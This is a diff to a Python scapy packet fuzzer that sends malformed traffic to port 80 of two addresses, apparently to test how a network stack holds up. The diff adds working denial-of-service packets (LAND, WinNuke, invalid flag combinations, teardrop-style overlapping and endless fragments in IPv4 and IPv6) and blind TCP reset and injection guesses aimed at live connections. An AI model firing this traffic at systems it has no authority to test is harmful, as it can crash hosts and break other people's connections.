@@ -1,5 +1,6 @@
 """Packets that contradict themselves, to port 80 of two addresses: python3 malformed.py INTERFACE IPV4
-IPV6 SEED. The same seed sends the same packets."""
+IPV6 SEED PORT PORT. From each of the two ports, one of either family, somebody is connected: who guesses
+at that connection sends, too. The same seed sends the same packets."""
 
 import random
 import socket
@@ -8,10 +9,10 @@ import sys
 
 from scapy.all import (
     ARP, Ether, ICMP, IP, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop,
-    ICMPv6PacketTooBig, Raw, TCP, UDP, Dot1Q, conf, fuzz, getmacbyip, raw,
+    ICMPv6PacketTooBig, Raw, TCP, UDP, Dot1Q, conf, fragment, fragment6, fuzz, getmacbyip, raw,
 )
 
-interface, v4, v6, seed = sys.argv[1:5]
+interface, v4, v6, seed, *connected = sys.argv[1:7]
 random.seed(int(seed))
 conf.verb = 0
 conf.iface = interface
@@ -99,6 +100,47 @@ def odd():
         yield Ether(dst=mac, type=kind) / Raw(b"\x45")
 
 
+def attacks():
+    """Those that have names, and each in both families where it has a form in both."""
+    request = b"GET /file HTTP/1.1\r\n\r\n"
+    for land in [IP(src=v4, dst=v4), IPv6(src=v6, dst=v6)]:
+        yield here / land / TCP(sport=80, dport=80, flags="S")
+    for base in ends():
+        for flags in ["FPU", "FSRPAUEC", "", "SF", "SR", "SFRP"]:
+            yield segment(base, flags)
+            yield segment(base, flags, payload=request)
+        yield base / TCP(sport=port(), dport=80, flags="UPA", urgptr=3) / Raw(b"winnuke")
+    # Whole segments in fragments: in order, backwards, overlapping, never ending, longer than a packet.
+    whole = IP(src=own[0], dst=v4, id=7) / TCP(sport=port(), dport=80, flags="S") / Raw(b"x" * 2000)
+    pieces = fragment(whole, fragsize=16)
+    yield from (here / piece for piece in pieces)
+    yield from (here / piece for piece in reversed(pieces))
+    for shift in [1, 2, 3]:
+        for number, piece in enumerate(pieces[:40]):
+            moved = piece.copy()
+            moved.frag = max(0, moved.frag - shift * number)
+            del moved.chksum
+            yield here / moved
+    for first, second in [((0, 36), (3, 4)), ((0, 24), (2, 8)), ((1, 40), (0, 16)), ((0, 8), (1, 8)), ((8190, 400), (8191, 64))]:
+        for (offset, length), more in [(first, 1), (second, 0)]:
+            yield here / IP(src=own[0], dst=v4, id=242, frag=offset, flags=more, proto=6) / Raw(b"y" * length)
+    long = IPv6(src=own[1], dst=v6) / IPv6ExtHdrFragment(id=9) / TCP(sport=port(), dport=80, flags="S") / Raw(b"x" * 3000)
+    for piece in fragment6(long, 1280) * 2:
+        yield here / piece
+    for offset in [0, 1, 2, 5, 8190]:
+        yield here / IPv6(src=own[1], dst=v6) / IPv6ExtHdrFragment(id=10, offset=offset, m=1, nh=6) / Raw(b"z" * 24)
+
+
+def guesses():
+    """From where somebody is connected, with numbers that are not his."""
+    for base, source in zip(ends(), connected):
+        for flags in ["R", "RA", "S", "SA", "A", "FA", "PA", "FPA", "U", ""]:
+            for _ in range(30):
+                fields = {"seq": random.getrandbits(32), "ack": random.getrandbits(32), "window": random.getrandbits(16)}
+                guess = TCP(sport=int(source), dport=80, flags=flags, **fields)
+                yield base / guess / Raw(random.randbytes(random.randrange(0, 40)) if "A" in flags else b"")
+
+
 def at_random():
     for _ in range(1500):
         for base in ends():
@@ -109,12 +151,14 @@ def at_random():
     for _ in range(300):
         for base in ends():
             yield base / fuzz(TCP(dport=80))
+        yield here / fuzz(IP(dst=v4) / TCP(dport=80))
+        yield here / fuzz(IPv6(dst=v6) / TCP(dport=80))
 
 
 link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 link.bind((interface, 0))
 sent = 0
-for packet in [*odd(), *at_random()]:
+for packet in [*odd(), *attacks(), *guesses(), *at_random()]:
     data = packet if isinstance(packet, bytes) else raw(packet)
     link.send(data[:1514])
     sent += 1
